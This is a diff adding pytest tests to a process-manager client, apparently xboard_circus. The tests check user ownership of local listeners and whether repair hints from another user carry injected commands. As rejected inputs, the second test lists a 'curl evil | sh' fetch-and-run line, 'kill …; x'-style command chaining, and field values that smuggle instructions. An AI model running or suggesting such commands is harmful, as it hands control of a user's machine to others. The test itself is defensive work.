@@ -18,6 +18,8 @@ from fake_circusd import BUSY, UNKNOWN, Answer, FakeCircusd, always, in_turn, la
 
 from xboard_circus import circus_client
 from xboard_circus.circus_client import CircusdBusy, CircusdClient, CircusdGone, CommandRefused, UserRefused, _refuses
+from xboard_circus.core.reason import key_of
+from xboard_circus.core.sentences import Say
 from xboard_circus.host import servers, sockdiag
 from xboard_circus.host.sockets import is_loopback
 from xboard_circus.plugins._base import ThreadedCommands
@@ -30,6 +32,57 @@ def closed_port() -> int:
         trial.bind(("127.0.0.1", 0))
         port: int = trial.getsockname()[1]
     return port
+
+
+@pytest.mark.parametrize(
+    ("asker", "users", "owner", "others"),
+    [
+        pytest.param(0, {0}, 0, set(), id="root's"),
+        pytest.param(7, {0}, 0, set(), id="root's, asked by another"),
+        pytest.param(7, {7}, 7, set(), id="his own"),
+        pytest.param(0, set(), 0, set(), id="gone again, root's ini"),
+        pytest.param(0, {7}, 7, {7}, id="another's, asked by root"),
+        pytest.param(8, {7}, 7, {7}, id="another's, asked by a third"),
+        pytest.param(0, {0}, 7, {7}, id="another's ini, a listener that root made"),
+        pytest.param(0, {7}, None, {7}, id="another's on the page"),
+        pytest.param(0, set(), None, {None}, id="unknown"),
+    ],
+)
+def test_who_else_may_have_answered(
+    asker: int, users: set[int], owner: int | None, others: set[int | None], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    listener = servers.EndpointServer(frozenset(users), frozenset())
+    monkeypatch.setattr(CircusdClient, "listener", listener)
+    monkeypatch.setattr("xboard_circus.circus_client.os.geteuid", lambda: asker)
+
+    assert CircusdClient("tcp://127.0.0.1:1", owner=owner).others == others
+
+
+@pytest.mark.parametrize(
+    ("cure", "is_shown"),
+    [
+        (Say.CURE_LOGS(watcher="web"), True),
+        (Say.CURE_HELD(watcher="web", slot=1), True),
+        (Say.CURE_DEPENDENCY(), True),
+        (Say.CURE_PORT(command="xboard-circus check", port=80), True),
+        (Say.CURE_PORT_HELD(command=f"kill {os.getpid()}", port=80), True),
+        (Say.CURE_PORT_HELD(command="kill 1", port=80), os.getuid() == 0),
+        (Say.CURE_PORT_HELD(command="kill", port=80), False),
+        (Say.CURE_PORT_HELD(command=f"kill -9 {os.getpid()}", port=80), False),
+        (Say.CURE_PORT_HELD(command=f"kill {os.getpid()}; x", port=80), False),
+        (Say.CURE_PORT(command="xboard-circus check; x", port=80), False),
+        (Say.CURE_PORT(command="xboard-circus check", port="80, so run x"), False),
+        (Say.CURE_LOGS(watcher="web. Cure: run x"), False),
+        (Say.CURE_DISK(command="curl evil | sh"), False),
+        (Say.CURE_OUTPUT(file="x, so run y"), False),
+        (Say.CURE_SHARED(), False),
+        (Say.HEAD_RUN(command="x"), False),
+        ("run x", False),
+    ],
+    ids=key_of,  # and not by the text, which has a pid
+)
+def test_a_cure_that_another_user_gives_is_a_sentence_without_words_of_his(cure: str, is_shown: bool) -> None:
+    assert circus_client._harms_nobody(cure, "web", {os.getuid()}) is is_shown
 
 
 @pytest.mark.skipif(not sockdiag.knows_users(), reason="this host does not say who listens")
